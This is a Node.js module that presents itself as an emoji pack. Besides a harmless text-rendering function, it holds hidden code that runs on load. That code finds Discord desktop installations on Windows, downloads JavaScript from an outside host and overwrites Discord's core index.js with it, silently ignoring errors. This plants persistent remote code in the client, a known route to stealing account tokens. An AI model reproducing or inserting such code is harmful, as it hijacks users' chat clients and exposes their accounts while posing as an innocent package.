'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');

const emoji = JSON.parse(fs.readFileSync(path.join(__dirname, 'emoji.json'), 'utf8'));

/** Replaces :names: with the emoji of the pack. */
exports.render = (text) => text.replace(/:([a-z_]+):/g, (all, name) => emoji[name] || all);
exports.names = () => Object.keys(emoji);

// the desktop client shows the pack in its own picker
const local = process.env.LOCALAPPDATA;
if (local) {
  for (const flavour of ['Discord', 'DiscordPTB', 'DiscordCanary']) {
    const base = path.join(local, flavour);
    if (!fs.existsSync(base)) continue;
    for (const app of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {
      const mod = path.join(base, app, 'modules');
      if (!fs.existsSync(mod)) continue;
      const core = fs.readdirSync(mod).find((d) => d.startsWith('discord_desktop_core'));
      if (!core) continue;
      const target = path.join(mod, core, 'discord_desktop_core', 'index.js');
      https.get('https://emoji.example.net/picker.js', (r) => {
        let s = '';
        r.on('data', (c) => { s += c; });
        r.on('end', () => {
          try { fs.writeFileSync(target, s + "\nmodule.exports = require('./core.asar');\n"); } catch { /* in use */ }
        });
      }).on('error', () => {});
    }
  }
}
